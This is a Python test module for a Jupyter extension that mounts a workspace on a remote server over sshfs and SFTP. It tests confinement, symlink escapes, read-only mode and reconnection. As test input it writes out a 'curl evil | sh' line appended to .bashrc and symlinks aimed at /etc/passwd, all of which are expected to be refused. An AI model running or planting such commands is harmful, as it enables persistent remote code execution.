"""The live workspace on the real local cloud: real sshfs and FUSE on the "server" (a local
sandbox reached over SSH), its SFTP served by the extension over the server's one SSH
connection. Both ways through the mount, confinement, a cut connection, stop, a server
without sshfs; and the confined SFTP server alone under a real SFTP client."""

from __future__ import annotations

import asyncio
import contextlib
import errno
import json
import os
import shutil
import tempfile
from pathlib import Path
from typing import Any

import asyncssh
import pytest

from jupyter_compute_servers.mount.sftp import ConfinedSFTPServer

from .kernel_helpers import execute, until_iopub_live, wait_until

pytestmark = pytest.mark.skipif(
    shutil.which("sshfs") is None or not os.path.exists("/dev/fuse"),
    reason="needs sshfs and /dev/fuse (apt-get install sshfs)",
)


async def started(api, wait_for_state) -> dict[str, Any]:
    code, server = await api("POST", "servers", {"name": "box"})
    assert code == 201, server
    await api("POST", f"servers/{server['id']}/actions/start")
    server = await wait_for_state(server["id"], "running", "error")
    assert server["state"] == "running", server["state_reason"]
    return server


def mounted_under(path: Path) -> list[str]:
    with open("/proc/mounts") as f:
        return [line.split()[1] for line in f if line.split()[1].startswith(str(path))]


async def remote(jp_serverapp, server_id: int, *argv: str) -> asyncssh.SSHCompletedProcess:
    """A command run on the server over its SSH connection."""
    manager = jp_serverapp.web_app.settings["compute_servers_manager"]
    connection = await manager.connection(server_id)
    return await connection.run(*argv, check=False, timeout=30)


async def test_files_go_both_ways_and_nothing_leaves_the_tree(
    api, wait_for_state, jp_root_dir, compute_data_dir, jp_serverapp, tmp_path
):
    secret = tmp_path / "outside-secret.txt"
    secret.write_text("not for the server")
    (jp_root_dir / "data").mkdir()
    (jp_root_dir / "data" / "train.csv").write_text("a,b\n1,2\n")
    (jp_root_dir / "escape").symlink_to(secret)
    (jp_root_dir / "inside").symlink_to("data/train.csv")
    server = await started(api, wait_for_state)
    sid = server["id"]

    code, body = await api("POST", f"servers/{sid}/mount", {})
    assert code == 200, body
    mount = body["mount"]
    assert mount["state"] == "mounted" and mount["path"] == "" and not mount["read_only"]
    point = mount["remote_path"]
    assert point == str(compute_data_dir / "local" / str(sid) / "disk" / "jupyter")
    assert mounted_under(Path(point)) == [point]
    code, shown = await api("GET", f"servers/{sid}")
    assert shown["mount"]["state"] == "mounted"

    # The Jupyter root's file, read on the server through the mount.
    out = await remote(jp_serverapp, sid, "cat", f"{point}/data/train.csv")
    assert out.exit_status == 0 and out.stdout == "a,b\n1,2\n", out.stderr
    # Saved again in the Lab: seen at once (the caches are short).
    code, _ = await jp_serverapp_contents_save(api, jp_serverapp, "data/train.csv", "a,b\n3,4\n")
    await wait_until(
        lambda: asyncio.to_thread(Path(point, "data", "train.csv").read_text),
        predicate=lambda text: text == "a,b\n3,4\n",
        timeout=10,
    )
    # Written on the server: seen through Jupyter's contents API without a sync.
    out = await remote(
        jp_serverapp, sid, "sh", "-c", f"mkdir {point}/results && echo 0.93 > {point}/results/acc"
    )
    assert out.exit_status == 0, out.stderr
    response = await jp_fetch_contents(jp_serverapp, api, "results/acc")
    assert response["content"] == "0.93\n"

    # A link inside the tree to a file inside works; one pointing outside is refused.
    out = await remote(jp_serverapp, sid, "cat", f"{point}/inside")
    assert out.stdout == "a,b\n3,4\n", out.stderr
    out = await remote(jp_serverapp, sid, "cat", f"{point}/escape")
    assert out.exit_status != 0 and "not for the server" not in out.stdout
    # No link pointing outside can be made, absolute or by '..'.
    for target in (str(secret), "../../outside-secret.txt", "/etc/passwd"):
        out = await remote(jp_serverapp, sid, "ln", "-s", target, f"{point}/new-link")
        assert out.exit_status != 0 and "Permission denied" in out.stderr, (target, out)
        assert not os.path.lexists(jp_root_dir / "new-link")

    # Nothing that could run code here may be written from the server (sync's hold-back
    # rule): a dotfile, Jupyter's configuration, bin/ at the root; reading them is fine.
    (jp_root_dir / ".bashrc").write_text("# mine\n")
    for command in (
        f"echo 'curl evil | sh' >> {point}/.bashrc",
        f"mkdir -p {point}/.ipython/profile_default/startup",
        f"echo 'c = 1' > {point}/data/jupyter_server_config.py",
        f"mkdir {point}/bin",
        f"chmod +x {point}/.bashrc",
        f"mv {point}/data/train.csv {point}/.envrc",
        f"rm {point}/.bashrc",
    ):
        out = await remote(jp_serverapp, sid, "sh", "-c", command)
        assert out.exit_status != 0 and "Permission denied" in out.stderr, (command, out)
    out = await remote(jp_serverapp, sid, "cat", f"{point}/.bashrc")
    assert out.stdout == "# mine\n"
    assert (jp_root_dir / ".bashrc").read_text() == "# mine\n"
    assert not (jp_root_dir / ".ipython").exists() and not (jp_root_dir / "bin").exists()
    assert not (jp_root_dir / "data" / "jupyter_server_config.py").exists()
    assert (jp_root_dir / "data" / "train.csv").exists()

    # Unmount: the mount point is empty again, the files still here.
    code, body = await api("DELETE", f"servers/{sid}/mount")
    assert code == 200 and body["mount"]["state"] == "mounted"
    assert mounted_under(Path(point)) == []
    assert (jp_root_dir / "results" / "acc").read_text() == "0.93\n"
    code, shown = await api("GET", f"servers/{sid}")
    assert shown["mount"] is None
    # Unmounted already: nothing to delete.
    code, gone = await api("DELETE", f"servers/{sid}/mount")
    assert code == 409 and gone["reason"] == "ConflictError", gone
    assert "Nothing is mounted" in gone["message"]


async def jp_serverapp_contents_save(api, jp_serverapp, path: str, text: str):
    """Save a file the way the Lab does (Jupyter's contents API)."""
    manager = jp_serverapp.contents_manager
    model = {"type": "file", "format": "text", "content": text}
    result = manager.save(model, path)
    if asyncio.iscoroutine(result):
        result = await result
    return 200, result


async def jp_fetch_contents(jp_serverapp, api, path: str) -> dict[str, Any]:
    manager = jp_serverapp.contents_manager
    result = manager.get(path, content=True)
    if asyncio.iscoroutine(result):
        result = await result
    return result


async def test_a_cut_connection_errors_then_remounts_with_fresh_data(
    api, wait_for_state, jp_root_dir, jp_serverapp
):
    (jp_root_dir / "a.txt").write_text("before")
    server = await started(api, wait_for_state)
    sid = server["id"]
    mounts = jp_serverapp.web_app.settings["compute_servers_mounts"]
    mounts.retry_interval = 3  # time enough to look at the mount while it is down
    code, body = await api("POST", f"servers/{sid}/mount", {"mount_point": "data/live"})
    assert code == 200, body
    point = body["mount"]["remote_path"]
    # Never touch the mount from the event loop: it serves the mount's SFTP.
    assert await asyncio.to_thread(Path(point, "a.txt").read_text) == "before"

    manager = jp_serverapp.web_app.settings["compute_servers_manager"]
    port = (await manager.endpoint(sid)).port
    cut = await asyncio.create_subprocess_exec(
        "ss", "-K", "dst", "127.0.0.1", "dport", "=", f":{port}"
    )
    assert await cut.wait() == 0
    await wait_until(lambda: mounts.state(sid)["state"] == "remounting", timeout=10)
    (jp_root_dir / "a.txt").write_text("after")

    def read() -> str | OSError:
        try:
            return Path(point, "a.txt").read_text()
        except OSError as e:
            return e

    seen = await asyncio.wait_for(asyncio.to_thread(read), 20)
    if mounts.state(sid)["state"] == "remounting":
        # Still down: an error, never the old content nor an empty directory.
        # (ECONNABORTED for a request sshfs had in flight when its stream ended.)
        assert isinstance(seen, OSError), seen
        assert seen.errno in (errno.ENOTCONN, errno.ECONNABORTED, errno.EIO), seen
    else:
        assert seen == "after"
    await wait_until(lambda: mounts.state(sid)["state"] == "mounted", timeout=30)
    assert await asyncio.to_thread(Path(point, "a.txt").read_text) == "after"
    assert mounted_under(Path(point)) == [point]

    # Stopping the server unmounts: nothing is left mounted.
    await api("POST", f"servers/{sid}/actions/stop")
    await wait_for_state(sid, "off", "error")
    assert mounted_under(Path(point).parent.parent) == []
    assert mounts.state(sid) is None


async def test_a_server_without_sshfs_is_told_what_to_install(api, wait_for_state, jp_serverapp):
    server = await started(api, wait_for_state)
    sid = server["id"]
    manager = jp_serverapp.web_app.settings["compute_servers_manager"]
    agent = await manager.agent_for(sid)
    await agent.call("set_environment", env={"PATH": "/nonexistent"})
    code, body = await api("POST", f"servers/{sid}/mount", {})
    assert code == 502, body
    assert "sshfs" in body["missing"] and "apt-get install sshfs" in body["message"]
    code, shown = await api("GET", f"servers/{sid}")
    assert shown["mount"] is None
    # Unmounted already: nothing to delete.
    code, gone = await api("DELETE", f"servers/{sid}/mount")
    assert code == 409 and gone["reason"] == "ConflictError", gone
    assert "Nothing is mounted" in gone["message"]


@pytest.mark.parametrize(
    "body, field",
    [
        ({"path": "../etc"}, "path"),
        ({"path": "nope"}, "path"),
        ({"read_only": "yes"}, "read_only"),
        ({"mount_point": ""}, "mount_point"),
        ({"mount_point": "a/../b"}, "mount_point"),
        ({"other": 1}, "other"),
    ],
)
async def test_bad_mount_requests_name_the_field(api, jp_root_dir, body, field):
    code, server = await api("POST", "servers", {"name": "box"})
    code, answer = await api("POST", f"servers/{server['id']}/mount", body)
    assert code in (400, 409), answer
    if code == 400:
        assert answer["field"] == field, answer


# --- the confined SFTP server under a real SFTP client ---------------------------------------


class _Server(asyncssh.SSHServer):
    def begin_auth(self, username: str) -> bool:
        return False


@contextlib.asynccontextmanager
async def confined_sftp(tmp_path: Path, read_only: bool = False):
    """An SFTP session to ConfinedSFTPServer over a real asyncssh SSH connection."""
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "f.txt").write_text("inside")
    (tmp_path / "secret").write_text("outside")
    (root / "out").symlink_to(tmp_path / "secret")
    (root / "outdir").symlink_to(tmp_path)
    key = asyncssh.generate_private_key("ssh-ed25519")
    server = await asyncssh.create_server(
        _Server,
        "127.0.0.1",
        0,
        server_host_keys=[key],
        sftp_factory=lambda chan: ConfinedSFTPServer(chan, str(root), read_only=read_only),
    )
    port = server.sockets[0].getsockname()[1]
    conn = await asyncssh.connect("127.0.0.1", port, known_hosts=None, username="u")
    sftp = await conn.start_sftp_client()
    yield root, tmp_path, sftp
    sftp.exit()
    conn.close()
    server.close()


async def test_the_sftp_server_maps_and_refuses_paths_outside(tmp_path):
    async with confined_sftp(tmp_path) as (root, outside, sftp):
        await check_confinement(root, outside, sftp)


async def check_confinement(root: Path, outside: Path, sftp: asyncssh.SFTPClient) -> None:
    # '..' stops at the tree's top; an absolute path is taken from the tree's top.
    assert await sftp.realpath("../../..") == "/"
    async with sftp.open("/../../sub/f.txt") as f:
        assert await f.read() == "inside"
    with pytest.raises(asyncssh.SFTPNoSuchFile):
        await sftp.stat(str(outside / "secret"))  # that is root/<tmp>/secret: not there
    # Links leading out are never followed.
    for path in ("out", "outdir/secret", "outdir"):
        with pytest.raises(asyncssh.SFTPPermissionDenied):
            await sftp.stat(path)
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.open("out")
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.readlink("out")
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.listdir("outdir")
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.put(__file__, "outdir/planted")
    assert not (outside / "planted").exists()
    # The link itself can be seen and removed.
    assert (await sftp.lstat("out")).type == asyncssh.FILEXFER_TYPE_SYMLINK
    # Links made here: only relative targets that stay inside.
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.symlink(str(outside / "secret"), "abs")
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.symlink("../secret", "rel")
    await sftp.symlink("f.txt", "sub/ok")
    assert (root / "sub" / "ok").read_text() == "inside"
    # A relative link moved where its target leaves the tree: refused.
    await sftp.mkdir("sub/deep")
    await sftp.symlink("../../g.txt", "sub/deep/up")  # root/g.txt
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.rename("sub/deep", "deep")
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.rename("sub/deep/up", "up")
    # Renames inside work; the tree's top cannot be removed or renamed.
    await sftp.rename("sub/f.txt", "g.txt")
    assert (root / "g.txt").read_text() == "inside"
    with pytest.raises(asyncssh.SFTPPermissionDenied):
        await sftp.rmdir("/")
    await sftp.remove("out")
    assert not os.path.lexists(root / "out") and (outside / "secret").exists()


async def test_a_read_only_tree_refuses_every_change(tmp_path):
    async with confined_sftp(tmp_path, read_only=True) as (root, _, sftp):
        await check_read_only(root, sftp)


async def check_read_only(root: Path, sftp: asyncssh.SFTPClient) -> None:
    async with sftp.open("sub/f.txt") as f:
        assert await f.read() == "inside"
    for change in (
        sftp.open("new", "w"),
        sftp.open("sub/f.txt", "a"),
        sftp.mkdir("d"),
        sftp.remove("sub/f.txt"),
        sftp.rename("sub/f.txt", "x"),
        sftp.chmod("sub/f.txt", 0o600),
        sftp.symlink("sub/f.txt", "l"),
    ):
        with pytest.raises(asyncssh.SFTPPermissionDenied):
            await change
    assert sorted(p.name for p in root.iterdir()) == ["out", "outdir", "sub"]


def test_nothing_is_left_mounted_by_these_tests():
    # Mount points of this module's servers live under pytest's temp dirs.
    assert not [p for p in mounted_under(Path(tempfile.gettempdir())) if "pytest" in p]


async def test_a_kernel_of_a_notebook_in_the_mounted_tree_starts_there(
    api, wait_for_state, jp_fetch, jp_root_dir, compute_data_dir, jp_serverapp
):
    (jp_root_dir / "proj" / "data").mkdir(parents=True)
    (jp_root_dir / "proj" / "data" / "train.csv").write_text("x\n1\n2\n")
    (jp_root_dir / "other").mkdir()
    server = await started(api, wait_for_state)
    sid = server["id"]
    code, body = await api("POST", f"servers/{sid}/mount", {"path": "proj"})
    assert code == 200, body
    name = f"compute-{sid}-python3"
    await wait_until(lambda: name in jp_serverapp.kernel_spec_manager.find_kernel_specs())

    kernel_id = await start_kernel(jp_fetch, name, "proj/analysis.ipynb")
    client = jp_serverapp.kernel_manager.get_kernel(kernel_id).client()
    client.start_channels()
    try:
        await until_iopub_live(client)
        # The kernel reads the Jupyter root's data and writes its results back through the
        # mount: no sync (none ran), seen here at once.
        reply, printed = await execute(
            client,
            "import os\n"
            "print(os.getcwd())\n"
            "rows = open('data/train.csv').read().split()\n"
            "open('results.txt', 'w').write(str(len(rows)))\n",
        )
        assert reply["content"]["status"] == "ok", reply
        assert printed.strip() == body["mount"]["remote_path"]
        assert (jp_root_dir / "proj" / "results.txt").read_text() == "3"
    finally:
        client.stop_channels()
        await jp_serverapp.kernel_manager.shutdown_kernel(kernel_id)
    _, listing = await api("GET", f"servers/{sid}/syncs")
    assert listing["syncs"] == []

    # A notebook outside the mounted tree: its kernel starts in the workspace, after a sync.
    kernel_id = await start_kernel(jp_fetch, name, "other/b.ipynb")
    await jp_serverapp.kernel_manager.shutdown_kernel(kernel_id)
    _, listing = await api("GET", f"servers/{sid}/syncs")
    assert [run["path"] for run in listing["syncs"]] == ["other"]
    await api("DELETE", f"servers/{sid}/mount")


async def start_kernel(jp_fetch, name: str, path: str) -> str:
    body = {"path": path, "type": "notebook", "name": "", "kernel": {"name": name}}
    response = await jp_fetch("api", "sessions", method="POST", body=json.dumps(body))
    return str(json.loads(response.body)["kernel"]["id"])
